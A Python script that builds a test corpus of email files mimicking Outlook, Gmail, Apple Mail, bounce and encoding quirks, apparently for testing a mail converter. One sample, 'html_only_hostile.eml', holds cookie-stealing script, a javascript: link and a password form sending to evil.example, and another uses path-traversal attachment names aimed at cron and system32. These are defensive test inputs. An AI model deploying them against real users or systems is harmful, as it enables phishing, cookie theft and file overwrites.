# ruff: noqa: E501, W291  (message text is data: long lines and significant trailing spaces)
"""Writes corpus/*.eml: hand-shaped copies of real-world mail (run once; the files are committed).

Each message imitates what a real client or MTA sends, including its quirks; bytes that a text
editor cannot hold (legacy charsets, 8-bit headers) are why this is a script and not plain files.
Run: .venv/bin/python -m tests.connector.convert.build_corpus
"""

from __future__ import annotations

import base64
import quopri
from pathlib import Path

from tests.connector.convert.payloads import (
    CONTRACT_DOCX,
    ICS_INVITE,
    INVOICE_PDF,
    LOGO_PNG,
    NOTES_TXT,
    PHOTO_PNG,
    REPORT_XLSX,
    SMIME_SIG,
    TNEF_CSV,
    TNEF_DOC,
    UU_BINARY,
    b64,
    tnef,
    uuencode,
)  # fmt: skip

CORPUS = Path(__file__).parent / "corpus"


def crlf(text: str) -> bytes:
    return text.replace("\r\n", "\n").replace("\n", "\r\n").encode("utf-8")


def b64w(text: str, charset: str) -> str:
    return f"=?{charset}?B?{base64.b64encode(text.encode(charset)).decode()}?="


def qp(text: str, charset: str = "utf-8") -> str:
    return quopri.encodestring(text.encode(charset)).decode("ascii")


DEVICE_TEXT = "Device 17 reports: temperature too high (81 °C).\n"
OUTLOOK_TEXT_QP = qp(
    "Sehr geehrte Damen und Herren,\n\ndie Lieferung zu Auftrag 4711 kam beschädigt an. Bitte senden Sie uns Ersatz für die defekten Teile.\n\nMit freundlichen Grüßen\nAnna Schmidt\n"
)
GMAIL_TEXT_QP = qp(
    "Thanks, that answers my question about the invoice. I will pay it this week.\n\nOn Tue, Mar 5, 2024 at 11:10 AM Support <support@example.com> wrote:\n> Your invoice number is 2024-0815.\n"
)
TNEF_TEXT_QP = qp(
    "Hallo,\nanbei unser Angebot und die Preisliste für Q2.\nGruß\nThomas Becker\n", "iso-8859-1"
)
JUNK_B64_1 = base64.b64encode(DEVICE_TEXT.encode()).decode().rstrip("=")[:24]
JUNK_B64_2 = base64.b64encode(DEVICE_TEXT.encode()).decode().rstrip("=")[24:]

CASES: dict[str, bytes] = {}

CASES["outlook_related_inline_image.eml"] = crlf(f"""\
Received: from EXCH01.contoso.local (10.0.0.5) by EXCH02.contoso.local with Microsoft SMTP Server
From: "Schmidt, Anna" <anna.schmidt@contoso.de>
To: Kundenservice <service@example.com>
CC: "Meier, Jörg" <joerg.meier@contoso.de>
Subject: =?utf-8?B?UmVrbGFtYXRpb24gQXVmdHJhZyA0NzEx?=
Thread-Topic: Reklamation Auftrag 4711
Thread-Index: AdmH3kK5nXQwqYb3TkGh8g==
Date: Tue, 5 Mar 2024 09:14:22 +0000
Message-ID: <AM0PR10MB2345F1C2D3E4A5B6C7D8E9F0A1B2C3D4@AM0PR10MB2345.EURPRD10.PROD.OUTLOOK.COM>
Accept-Language: de-DE, en-US
Content-Language: de-DE
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator:
Importance: high
X-Priority: 1
Content-Type: multipart/related;
\tboundary="_004_AM0PR10MB2345_";
\ttype="multipart/alternative"
MIME-Version: 1.0

--_004_AM0PR10MB2345_
Content-Type: multipart/alternative;
\tboundary="_000_AM0PR10MB2345_"

--_000_AM0PR10MB2345_
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{OUTLOOK_TEXT_QP}
--_000_AM0PR10MB2345_
Content-Type: text/html; charset="utf-8"
Content-Transfer-Encoding: quoted-printable

{qp('<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"><style>p.MsoNormal{margin:0cm;font-family:"Calibri",sans-serif;}</style></head><body lang="DE"><div class="WordSection1"><p class="MsoNormal">Sehr geehrte Damen und Herren,</p><p class="MsoNormal">die Lieferung zu Auftrag 4711 kam beschädigt an.</p><p class="MsoNormal"><img width="4" height="3" id="Bild_x0020_1" src="cid:image001.png@01DA6F1C.2B3C4D50" alt="Logo"></p></div></body></html>')}
--_000_AM0PR10MB2345_--

--_004_AM0PR10MB2345_
Content-Type: image/png; name="image001.png"
Content-Description: image001.png
Content-Disposition: inline; filename="image001.png"; size={len(LOGO_PNG)};
\tcreation-date="Tue, 05 Mar 2024 09:14:21 GMT"
Content-ID: <image001.png@01DA6F1C.2B3C4D50>
Content-Transfer-Encoding: base64

{b64(LOGO_PNG)}

--_004_AM0PR10MB2345_--
""")

CASES["gmail_reply_thread.eml"] = crlf(f"""\
MIME-Version: 1.0
Date: Wed, 6 Mar 2024 14:02:11 +0100
References: <CAF=abc123@mail.gmail.com> <20240305101010.1234@example.com>
 <20240305101010.1234@example.com>
 <CAF=def456@mail.gmail.com>
In-Reply-To: <CAF=def456@mail.gmail.com>
Message-ID: <CAGx9y=Q2mK8wz+7Lr@mail.gmail.com>
Subject: Re: Re: Frage zu meiner Rechnung
From: Peter Brown <peter.brown@gmail.com>
To: support@example.com
Content-Type: multipart/alternative; boundary="000000000000a1b2c3d4e5f60718"

--000000000000a1b2c3d4e5f60718
Content-Type: text/plain; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{GMAIL_TEXT_QP}
--000000000000a1b2c3d4e5f60718
Content-Type: text/html; charset="UTF-8"
Content-Transfer-Encoding: quoted-printable

{qp('<div dir="ltr">Thanks, that answers my question about the invoice. I will pay it this week.</div><br><div class="gmail_quote"><div dir="ltr" class="gmail_attr">On Tue, Mar 5, 2024 at 11:10 AM Support &lt;<a href="mailto:support@example.com">support@example.com</a>&gt; wrote:<br></div><blockquote class="gmail_quote" style="margin:0px 0px 0px 0.8ex;border-left:1px solid rgb(204,204,204);padding-left:1ex">Your invoice number is 2024-0815.</blockquote></div>')}
--000000000000a1b2c3d4e5f60718--
""")

CASES["apple_mail_flowed_inline_photo.eml"] = crlf(f"""\
From: =?utf-8?Q?Fran=C3=A7ois_Lef=C3=A8vre?= <francois@icloud.com>
Content-Type: multipart/mixed;
\tboundary="Apple-Mail=_7E1C2A2B-1D3E-4F50-8A61-9B7C8D9E0F10"
Mime-Version: 1.0 (Mac OS X Mail 16.0 \\(3774.400.31\\))
Subject: Photo of the damaged part
Message-Id: <7E1C2A2B-1D3E-4F50-8A61-9B7C8D9E0F10@icloud.com>
Date: Thu, 7 Mar 2024 18:45:03 +0100
To: support@example.com
X-Mailer: Apple Mail (2.3774.400.31)

--Apple-Mail=_7E1C2A2B-1D3E-4F50-8A61-9B7C8D9E0F10
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii;
\tformat=flowed

Hello, here is a photo of the part that arrived broken. The crack is 
on the left side.

--Apple-Mail=_7E1C2A2B-1D3E-4F50-8A61-9B7C8D9E0F10
Content-Disposition: inline;
\tfilename=IMG_0042.png
Content-Type: image/png;
\tx-unix-mode=0644;
\tname="IMG_0042.png"
Content-Transfer-Encoding: base64

{b64(PHOTO_PNG)}
--Apple-Mail=_7E1C2A2B-1D3E-4F50-8A61-9B7C8D9E0F10
Content-Transfer-Encoding: 7bit
Content-Type: text/plain;
\tcharset=us-ascii

Regards, Francois

--Apple-Mail=_7E1C2A2B-1D3E-4F50-8A61-9B7C8D9E0F10--
""")

CASES["thunderbird_rfc2231_filename.eml"] = crlf(f"""\
Message-ID: <5b1e8c3a-2f4d-4e6b-9a7c-1d2e3f4a5b6c@posteo.de>
Date: Fri, 8 Mar 2024 10:00:00 +0100
MIME-Version: 1.0
User-Agent: Mozilla Thunderbird
Content-Language: de-DE
To: support@example.com
From: =?UTF-8?Q?J=C3=BCrgen_M=C3=BCller?= <juergen.mueller@posteo.de>
Subject: =?UTF-8?Q?Vertrag_und_Z=C3=A4hlerstand?=
Content-Type: multipart/mixed; boundary="------------0hX7bQkY1m2n3o4p5q6r7s8t"

This is a multi-part message in MIME format.
--------------0hX7bQkY1m2n3o4p5q6r7s8t
Content-Type: text/plain; charset=UTF-8; format=flowed
Content-Transfer-Encoding: 8bit

Guten Tag,

anbei der unterschriebene Vertrag und mein Zählerstand.

Viele Grüße
Jürgen Müller

--------------0hX7bQkY1m2n3o4p5q6r7s8t
Content-Type: application/vnd.openxmlformats-officedocument.wordprocessingml.document;
 name*0*=UTF-8''Vertrag%20%C3%BCber%20Stromlieferung%20%E2%80%93%20unter;
 name*1*=schrieben.docx
Content-Disposition: attachment;
 filename*0*=UTF-8''Vertrag%20%C3%BCber%20Stromlieferung%20%E2%80%93%20unter;
 filename*1*=schrieben.docx
Content-Transfer-Encoding: base64

{b64(CONTRACT_DOCX)}
--------------0hX7bQkY1m2n3o4p5q6r7s8t
Content-Type: text/plain; charset=UTF-8; name*=UTF-8''Z%C3%A4hlerstand.txt
Content-Disposition: attachment; filename*=UTF-8''Z%C3%A4hlerstand.txt
Content-Transfer-Encoding: base64

{b64(NOTES_TXT)}

--------------0hX7bQkY1m2n3o4p5q6r7s8t--
""")

JP_SUBJECT = "お問い合わせ：注文番号１２３"
JP_BODY = (
    "お世話になっております。\n注文した商品がまだ届いていません。\n確認をお願いいたします。\n\n山田太郎\n"
)
CASES["japanese_iso2022jp.eml"] = crlf(f"""\
From: {b64w("山田太郎", "iso2022_jp")} <taro.yamada@example.jp>
To: support@example.com
Subject: {b64w(JP_SUBJECT, "iso2022_jp")}
Date: Mon, 11 Mar 2024 09:30:00 +0900
Message-ID: <20240311093000.ABCD1234@example.jp>
MIME-Version: 1.0
Content-Type: text/plain; charset=ISO-2022-JP
Content-Transfer-Encoding: 7bit
X-Mailer: Becky! ver. 2.81.04

""") + JP_BODY.replace("\n", "\r\n").encode("iso2022_jp")

ZH_SUBJECT = "关于订单的问题（王喆）"
ZH_BODY = "您好：\n我的订单还没有收到，请帮忙查一下物流信息。\n谢谢！\n王喆\n"
ZH_B64 = b64(ZH_BODY.replace(chr(10), chr(13) + chr(10)).encode("gbk"))
CASES["chinese_gb2312_gbk_chars.eml"] = crlf(f"""\
From: =?gb2312?B?{base64.b64encode("王喆".encode("gbk")).decode()}?= <wangzhe@example.cn>
To: support@example.com
Subject: =?GB2312?B?{base64.b64encode(ZH_SUBJECT.encode("gbk")).decode()}?=
Date: Tue, 12 Mar 2024 16:20:00 +0800
Message-ID: <202403121620000123456@example.cn>
X-Mailer: Foxmail 7.2.25.228[cn]
Mime-Version: 1.0
Content-Type: text/plain; charset="GB2312"
Content-Transfer-Encoding: base64

{ZH_B64}
""")

RU_BODY = "Здравствуйте!\nПрошу проверить мой заказ номер 5512, он до сих пор не доставлен.\nС уважением,\nИван Петров\n"
CASES["russian_koi8r_label_cp1251_bytes.eml"] = crlf(f"""\
From: =?koi8-r?B?{base64.b64encode("Иван Петров".encode("koi8-r")).decode()}?= <ivan.petrov@mail.ru>
To: support@example.com
Subject: =?koi8-r?B?{base64.b64encode("Где мой заказ?".encode("koi8-r")).decode()}?=
Date: Wed, 13 Mar 2024 11:11:11 +0300
Message-ID: <1710317471.123456789@f123.i.mail.ru>
MIME-Version: 1.0
Content-Type: text/plain; charset=koi8-r
Content-Transfer-Encoding: 8bit

""") + RU_BODY.replace("\n", "\r\n").encode("cp1251")

CASES["russian_cp1251_raw_8bit_subject.eml"] = (
    b"From: " + "Ольга".encode("cp1251") + b" <olga@yandex.ru>\r\n"
    b"To: support@example.com\r\n"
    b"Subject: " + "Возврат товара".encode("cp1251") + b"\r\n"
    b"Date: Thu, 14 Mar 2024 08:00:00 +0300\r\n"
    b"Message-ID: <4815162342@yandex.ru>\r\n"
    b"MIME-Version: 1.0\r\n"
    b"Content-Type: text/plain; charset=windows-1251\r\n"
    b"Content-Transfer-Encoding: 8bit\r\n\r\n"
    + "Добрый день! Хочу вернуть товар, он не подошёл по размеру. Как оформить возврат?\r\n".encode("cp1251")
)

CASES["latin1_declared_with_cp1252_euro.eml"] = (
    crlf("""\
From: Claire Dubois <claire.dubois@orange.fr>
To: support@example.com
Subject: =?iso-8859-1?Q?Facture_=E0_corriger?=
Date: Fri, 15 Mar 2024 17:45:00 +0100
Message-ID: <000001da76f3$8a9b0c10$9fb12430$@orange.fr>
MIME-Version: 1.0
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: 8bit
X-Mailer: Microsoft Outlook 16.0

""")
    + "Bonjour,\r\nle montant de 120 € sur la facture n’est pas correct. Merci de vérifier.\r\nCordialement\r\n".encode(
        "cp1252"
    )
)

CASES["us_ascii_label_utf8_bytes.eml"] = (
    crlf("""\
From: shop-notify@example.org
To: support@example.com
Subject: Order confirmation
Date: Sat, 16 Mar 2024 12:00:00 -0500
Message-ID: <order-99812@shop.example.org>
MIME-Version: 1.0
Content-Type: text/plain; charset=us-ascii
Content-Transfer-Encoding: 7bit

""")
    + "Customer wrote: Señora Muñoz ordered 3× café crème.\r\n".encode()
)

CASES["outlook_tnef_winmail.eml"] = crlf(f"""\
From: "Becker, Thomas" <thomas.becker@fabrikam.com>
To: "service@example.com" <service@example.com>
Subject: Angebot und Preisliste
Thread-Topic: Angebot und Preisliste
Thread-Index: AdmIAbCdEfGhIjKlMnOpQrStUv==
Date: Mon, 18 Mar 2024 07:59:59 +0000
Message-ID: <DB9PR02MB7000A1B2C3@DB9PR02MB7000.eurprd02.prod.outlook.com>
Content-Language: de-DE
X-MS-Has-Attach: yes
X-MS-TNEF-Correlator: <DB9PR02MB7000A1B2C3@DB9PR02MB7000.eurprd02.prod.outlook.com>
Content-Type: multipart/mixed; boundary="_002_DB9PR02MB7000_"
MIME-Version: 1.0

--_002_DB9PR02MB7000_
Content-Type: text/plain; charset="iso-8859-1"
Content-Transfer-Encoding: quoted-printable

{TNEF_TEXT_QP}
--_002_DB9PR02MB7000_
Content-Type: application/ms-tnef; name="winmail.dat"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="winmail.dat"

{b64(tnef([("Angebot 2024.doc", TNEF_DOC), ("Preise.csv", TNEF_CSV)]))}

--_002_DB9PR02MB7000_--
""")

CASES["dsn_postfix_bounce.eml"] = crlf("""\
Return-Path: <>
Delivered-To: support@example.com
Received: by mail.example.com (Postfix) id 3F1C2A0123; Tue, 19 Mar 2024 10:00:05 +0100 (CET)
Date: Tue, 19 Mar 2024 10:00:05 +0100 (CET)
From: MAILER-DAEMON@mail.example.com (Mail Delivery System)
Subject: Undelivered Mail Returned to Sender
To: support@example.com
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="3F1C2A0123.1710838805/mail.example.com"
Content-Transfer-Encoding: 7bit
Message-Id: <20240319090005.3F1C2A0123@mail.example.com>

This is a MIME-encapsulated message.

--3F1C2A0123.1710838805/mail.example.com
Content-Description: Notification
Content-Type: text/plain; charset=us-ascii

This is the mail system at host mail.example.com.

I'm sorry to have to inform you that your message could not
be delivered to one or more recipients. It's attached below.

<nobody@customer.example>: host mx.customer.example[203.0.113.7] said: 550 5.1.1
    <nobody@customer.example>: Recipient address rejected: User unknown

--3F1C2A0123.1710838805/mail.example.com
Content-Description: Delivery report
Content-Type: message/delivery-status

Reporting-MTA: dns; mail.example.com
X-Postfix-Queue-ID: 3F1C2A0123
Arrival-Date: Tue, 19 Mar 2024 10:00:01 +0100 (CET)

Final-Recipient: rfc822; nobody@customer.example
Original-Recipient: rfc822;nobody@customer.example
Action: failed
Status: 5.1.1
Remote-MTA: dns; mx.customer.example
Diagnostic-Code: smtp; 550 5.1.1 <nobody@customer.example>: Recipient address
    rejected: User unknown

Final-Recipient: rfc822; slow@customer.example
Action: delayed
Status: 4.4.1

--3F1C2A0123.1710838805/mail.example.com
Content-Description: Undelivered Message
Content-Type: message/rfc822

Message-ID: <reply-7f3a@example.com>
Date: Tue, 19 Mar 2024 09:59:59 +0100
From: Support <support@example.com>
To: nobody@customer.example, slow@customer.example
Subject: Re: Your ticket 8812

We have processed your request.

--3F1C2A0123.1710838805/mail.example.com--
""")

CASES["dsn_exchange_ndr.eml"] = crlf("""\
From: Microsoft Outlook <postmaster@contoso.onmicrosoft.com>
To: <service@example.com>
Date: Wed, 20 Mar 2024 13:37:00 +0000
Content-Type: multipart/report; report-type=delivery-status;
\tboundary="6a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9"
X-MS-Exchange-Message-Is-Ndr:
Content-Language: en-US
Message-ID: <6a1b2c3d-ndr@AM6PR01MB1234.eurprd01.prod.exchangelabs.com>
In-Reply-To: <answer-2024-0320@example.com>
References: <answer-2024-0320@example.com>
Subject: Undeliverable: Your request 55123
Auto-Submitted: auto-replied
MIME-Version: 1.0

--6a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9
Content-Type: multipart/alternative;
\tboundary="7b2c3d4e-5f60-7182-93a4-b5c6d7e8f9a0"

--7b2c3d4e-5f60-7182-93a4-b5c6d7e8f9a0
Content-Type: text/plain; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

Your message to max.mustermann@contoso.com couldn't be delivered.
max.mustermann wasn't found at contoso.com.

--7b2c3d4e-5f60-7182-93a4-b5c6d7e8f9a0
Content-Type: text/html; charset="us-ascii"
Content-Transfer-Encoding: quoted-printable

<html><body><p>Your message to <b>max.mustermann@contoso.com</b> couldn't be delivered.</p></body></html>
--7b2c3d4e-5f60-7182-93a4-b5c6d7e8f9a0--

--6a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9
Content-Type: message/delivery-status

Reporting-MTA: dns;AM6PR01MB1234.eurprd01.prod.exchangelabs.com
Received-From-MTA: dns;mail.example.com
Arrival-Date: Wed, 20 Mar 2024 13:36:58 +0000

Original-Recipient: rfc822;max.mustermann@contoso.com
Final-Recipient: rfc822;max.mustermann@contoso.com
Action: failed
Status: 5.1.10
Diagnostic-Code: smtp;550 5.1.10 RESOLVER.ADR.RecipientNotFound; Recipient not found by SMTP address lookup

--6a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9
Content-Type: text/rfc822-headers

Received: from mail.example.com (192.0.2.10) by AM6PR01MB1234.mail.protection.outlook.com
From: Service <service@example.com>
To: <max.mustermann@contoso.com>
Subject: Your request 55123
Date: Wed, 20 Mar 2024 13:36:55 +0000
Message-ID: <answer-2024-0320@example.com>
MIME-Version: 1.0

--6a1b2c3d-4e5f-6071-8293-a4b5c6d7e8f9--
""")

CASES["exim_bounce_x_failed_recipients.eml"] = crlf("""\
Return-path: <>
Envelope-to: support@example.com
X-Failed-Recipients: old.customer@legacy.example, other@legacy.example
Auto-Submitted: auto-replied
From: Mail Delivery System <Mailer-Daemon@relay.example.net>
To: support@example.com
Subject: Mail delivery failed: returning message to sender
Message-Id: <E1rmXyZ-0001aB-Cd@relay.example.net>
Date: Thu, 21 Mar 2024 06:05:04 +0000

This message was created automatically by mail delivery software.

A message that you sent could not be delivered to one or more of its
recipients. This is a permanent error. The following address(es) failed:

  old.customer@legacy.example
    Unrouteable address
  other@legacy.example
    Unrouteable address

------ This is a copy of the message, including all the headers. ------

Return-path: <support@example.com>
Message-ID: <ticket-9911-reply@example.com>
From: support@example.com
To: old.customer@legacy.example
Subject: Re: Warranty claim

Your claim was approved.
""")

CASES["oof_exchange_automatic_reply.eml"] = crlf("""\
From: "Novak, Petra" <petra.novak@contoso.com>
To: Support <support@example.com>
Subject: Automatic reply: Your ticket 7001
Thread-Topic: Your ticket 7001
Thread-Index: AQHabc123def456==
Date: Fri, 22 Mar 2024 08:00:01 +0000
Message-ID: <oof-7001@VI1PR01MB5678.eurprd01.prod.outlook.com>
References: <ticket-7001@example.com>
In-Reply-To: <ticket-7001@example.com>
Auto-Submitted: auto-generated
X-Auto-Response-Suppress: All
X-MS-Exchange-Inbox-Rules-Loop: petra.novak@contoso.com
X-MS-Exchange-Generated-Message-Source: Mailbox Rules Agent
Content-Type: text/plain; charset="us-ascii"
MIME-Version: 1.0

I am out of the office until April 2nd with limited access to email.
""")

CASES["oof_german_subject_exchange_headers.eml"] = crlf("""\
From: Klaus Wagner <k.wagner@firma.de>
To: service@example.com
Subject: Abwesenheitsnotiz: Ihre Anfrage
Date: Mon, 25 Mar 2024 10:00:00 +0100
Message-ID: <abwesend-42@EX2016.firma.local>
X-MS-Exchange-Organization-AuthAs: Internal
X-Auto-Response-Suppress: All
Thread-Topic: Ihre Anfrage
Content-Type: text/plain; charset="utf-8"
Content-Transfer-Encoding: 8bit
MIME-Version: 1.0

Ich bin bis zum 5. April nicht im Büro. In dringenden Fällen wenden Sie sich bitte an meine Kollegin.
""")

CASES["customer_sets_x_auto_response_suppress.eml"] = crlf("""\
From: Laura Rossi <laura.rossi@contoso.it>
To: support@example.com
Subject: Out of office next week, please call me today
Date: Tue, 26 Mar 2024 09:00:00 +0100
Message-ID: <human-1@contoso.it>
X-Auto-Response-Suppress: DR, RN, NRN, OOF, AutoReply
Content-Type: text/plain; charset="utf-8"
MIME-Version: 1.0

Buongiorno, sarò fuori ufficio la prossima settimana. Potete chiamarmi oggi per la riparazione della lavatrice?
""")

CASES["mailing_list_digest.eml"] = crlf("""\
From: Product Updates <news@lists.vendor.example>
To: support@example.com
Subject: [vendor-announce] New firmware 2.4 released
Date: Wed, 27 Mar 2024 15:00:00 +0000
Message-ID: <announce-2024-03@lists.vendor.example>
List-Id: Vendor announcements <vendor-announce.lists.vendor.example>
List-Unsubscribe: <mailto:vendor-announce-leave@lists.vendor.example>, <https://lists.vendor.example/u/abc>
List-Unsubscribe-Post: List-Unsubscribe=One-Click
Precedence: list
Content-Type: text/plain; charset=utf-8
MIME-Version: 1.0

Firmware 2.4 is available for all devices. See the release notes on our website.
""")

FWD_INNER = crlf(f"""\
From: Billing <billing@vendor.example>
To: Anna Schmidt <anna.schmidt@contoso.de>
Subject: Ihre Rechnung 2024-03
Date: Thu, 28 Mar 2024 08:00:00 +0100
Message-ID: <invoice-2024-03@vendor.example>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="inner-boundary-1"

--inner-boundary-1
Content-Type: text/plain; charset=utf-8

Anbei Ihre Rechnung.

--inner-boundary-1
Content-Type: application/pdf; name="Rechnung-2024-03.pdf"
Content-Disposition: attachment; filename="Rechnung-2024-03.pdf"
Content-Transfer-Encoding: base64

{b64(INVOICE_PDF)}
--inner-boundary-1--
""")
CASES["forward_as_attachment_rfc822.eml"] = (
    crlf("""\
From: "Schmidt, Anna" <anna.schmidt@contoso.de>
To: service@example.com
Subject: WG: Ihre Rechnung 2024-03
Date: Thu, 28 Mar 2024 09:30:00 +0100
Message-ID: <fwd-2024-03@contoso.de>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="outer-boundary-1"

--outer-boundary-1
Content-Type: text/plain; charset=utf-8

Bitte prüfen, die Rechnung ist doppelt.

--outer-boundary-1
Content-Type: message/rfc822
Content-Disposition: attachment

""")
    + FWD_INNER
    + crlf("""
--outer-boundary-1--
""")
)

CASES["uuencoded_attachment_in_body.eml"] = crlf(f"""\
From: old-system@factory.example
To: support@example.com
Subject: Nightly export
Date: Fri, 29 Mar 2024 02:00:00 +0000
Message-ID: <export-20240329@factory.example>

Nightly export attached.

{uuencode(UU_BINARY, "export.bin")}

-- 
factory batch
""")

CASES["missing_message_id_and_date.eml"] = crlf("""\
From: scanner@office.example
To: support@example.com
Subject: Scan from MFP-3

Scanned document is ready.
""")

CASES["broken_boundary_mismatch.eml"] = crlf("""\
From: Tom <tom@example.net>
To: support@example.com
Subject: Cannot log in
Date: Sat, 30 Mar 2024 12:00:00 +0000
Message-ID: <broken-boundary-1@example.net>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="declared-boundary"

--actual-boundary
Content-Type: text/plain; charset=utf-8

I cannot log in to my account since yesterday.
--actual-boundary--
""")

CASES["missing_closing_boundary.eml"] = crlf(f"""\
From: Eva <eva@example.net>
To: support@example.com
Subject: Invoice attached
Date: Sun, 31 Mar 2024 12:00:00 +0000
Message-ID: <truncated-1@example.net>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="b1"

--b1
Content-Type: text/plain; charset=utf-8

Please find the invoice attached.

--b1
Content-Type: application/pdf; name="invoice.pdf"
Content-Disposition: attachment; filename="invoice.pdf"
Content-Transfer-Encoding: base64

{b64(INVOICE_PDF)}
""")

CASES["raw_utf8_headers.eml"] = crlf("""\
From: José Ramírez <jose.ramirez@example.es>
To: "Soporte Técnico" <support@example.com>
Subject: Problema con la facturación – urgente
Date: Mon, 1 Apr 2024 10:00:00 +0200
Message-ID: <raw-utf8-1@example.es>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: 8bit

Hola, la factura de marzo tiene un importe incorrecto. ¿Pueden revisarla, por favor?
""")

CASES["malformed_encoded_words.eml"] = crlf("""\
From: =?utf-8?q?Bj=C3=B6rn?= =?utf-8?q?_Sch=C3=A4fer?= <bjoern@example.de>
To: support@example.com
Subject: =?UTF-8?B?5pel5pys6Kqe44Gu?= =?UTF-8?B?44Oh44O844Or?=
 =?utf-8?Q?_and_Gr=C3=BC?=
 =?utf-8?Q?=C3=9Fe?=
Date: Tue, 2 Apr 2024 10:00:00 +0200
Message-ID: <mangled-1@example.de>
Content-Type: text/plain; charset=utf-8
MIME-Version: 1.0

Split multi-byte characters across encoded words.
""")

CASES["garbage_and_group_addresses.eml"] = crlf("""\
From: "Broken Sender <sender@example.org>
To: undisclosed-recipients:;
Cc: Team: alice@example.org, "Bob B." <bob@example.org>;, garbage <<>>@@, =?utf-8?Q?M=C3=BCller=2C_Hans?= <hans@example.de>
Reply-To: replies@example.org
Subject: Addresses test
Date: Wed, 3 Apr 2024 10:00:00 +0000
Message-ID: <addr-1@example.org>

Body.
""")

CASES["html_only_hostile.eml"] = crlf("""\
From: "Promo" <promo@spam.example>
To: support@example.com
Subject: Your account needs attention
Date: Thu, 4 Apr 2024 10:00:00 +0000
Message-ID: <hostile-1@spam.example>
MIME-Version: 1.0
Content-Type: text/html; charset=utf-8

<html><head><style>body{background:url(https://tracker.spam.example/css.png)}</style><script>steal(document.cookie)</script></head>
<body onload="track()"><p style="color:#333;background-image:url('https://tracker.spam.example/p.gif')">Dear customer,</p>
<p>Please <a href="javascript:alert(document.cookie)">verify</a> your details at <a href="https://example.com/account">our site</a>.</p>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/collect"><input name="password" type="password"></form>
<img src="https://tracker.spam.example/pixel.gif" onerror="x()" width="1" height="1">
<p>Thanks<br>Your Bank</p></body></html>
""")

CASES["base64_with_junk.eml"] = crlf(f"""\
From: device@iot.example
To: support@example.com
Subject: Status report
Date: Fri, 5 Apr 2024 10:00:00 +0000
Message-ID: <b64junk-1@iot.example>
MIME-Version: 1.0
Content-Type: text/plain; charset=utf-8
Content-Transfer-Encoding: base64

{JUNK_B64_1}!!
{JUNK_B64_2}
""")

CASES["outlook_rfc2047_in_name_and_unsafe_names.eml"] = crlf(f"""\
From: "Keller, Max" <max.keller@contoso.ch>
To: support@example.com
Subject: Dokumente
Date: Sat, 6 Apr 2024 10:00:00 +0200
Message-ID: <names-1@contoso.ch>
MIME-Version: 1.0
Content-Type: multipart/mixed; boundary="names"

--names
Content-Type: text/plain; charset=utf-8

Siehe Anhänge.

--names
Content-Type: application/vnd.openxmlformats-officedocument.spreadsheetml.sheet;
\tname="=?utf-8?B?w5xiZXJzaWNodCBLb3N0ZW4ueGxzeA==?="
Content-Disposition: attachment;
\tfilename="=?utf-8?B?w5xiZXJzaWNodCBLb3N0ZW4ueGxzeA==?="
Content-Transfer-Encoding: base64

{b64(REPORT_XLSX)}
--names
Content-Type: application/pdf; name="../../../etc/cron.d/evil.pdf"
Content-Disposition: attachment; filename="..\\\\..\\\\windows\\\\system32\\\\evil.pdf"
Content-Transfer-Encoding: base64

{b64(INVOICE_PDF)}
--names
Content-Type: image/png
Content-Transfer-Encoding: base64

{b64(LOGO_PNG)}
--names--
""")

CASES["invalid_date_low_priority.eml"] = crlf("""\
From: Newsletter Bot <bot@example.biz>
To: support@example.com
Subject: Weekly numbers
Date: Blursday, 45 Smarch 20244 25:61:00 +9999
Message-ID: <baddate-1@example.biz>
X-Priority: 5 (Lowest)
X-MSMail-Priority: Low
Content-Type: text/plain

Numbers are up.
""")

CASES["urgent_priority_header.eml"] = crlf("""\
From: Hospital IT <it@hospital.example>
To: support@example.com
Subject: System down in ward 3
Date: Sun, 7 Apr 2024 03:12:00 +0200
Message-ID: <urgent-1@hospital.example>
Priority: urgent
Content-Type: text/plain; charset=us-ascii

The patient monitoring console in ward 3 is offline since 03:00. Please call back immediately.
""")

CASES["subject_prefix_soup.eml"] = crlf("""\
From: Maria Lopez <maria.lopez@contoso.es>
To: support@example.com
Subject: RE: AW: [EXTERNAL] WG: [Ticket#4711] Rechnung falsch
Date: Mon, 8 Apr 2024 10:00:00 +0200
Message-ID: <soup-1@contoso.es>
In-Reply-To: <ticket-4711-3@example.com>
Content-Type: text/plain; charset=utf-8

See below.
""")

CASES["calendar_invite_alternative.eml"] = crlf(f"""\
From: Scheduler <calendar@contoso.com>
To: support@example.com
Subject: Invitation: Service visit
Date: Tue, 9 Apr 2024 10:00:00 +0000
Message-ID: <invite-1@contoso.com>
MIME-Version: 1.0
Content-Type: multipart/alternative; boundary="cal"

--cal
Content-Type: text/plain; charset=utf-8

You are invited to a service visit on March 15.
--cal
Content-Type: text/calendar; charset=utf-8; method=REQUEST
Content-Transfer-Encoding: base64

{b64(ICS_INVITE)}
--cal--
""")

CASES["smime_signed.eml"] = crlf(f"""\
From: Secure Sender <secure@bank.example>
To: support@example.com
Subject: Signed statement
Date: Wed, 10 Apr 2024 10:00:00 +0000
Message-ID: <signed-1@bank.example>
MIME-Version: 1.0
Content-Type: multipart/signed; protocol="application/pkcs7-signature"; micalg=sha-256;
 boundary="----SIG"

This is an S/MIME signed message

------SIG
Content-Type: text/plain; charset=utf-8

Your statement is available online.
------SIG
Content-Type: application/pkcs7-signature; name="smime.p7s"
Content-Transfer-Encoding: base64
Content-Disposition: attachment; filename="smime.p7s"

{b64(SMIME_SIG)}
------SIG--
""")

CASES["unknown_charset_label.eml"] = crlf("""\
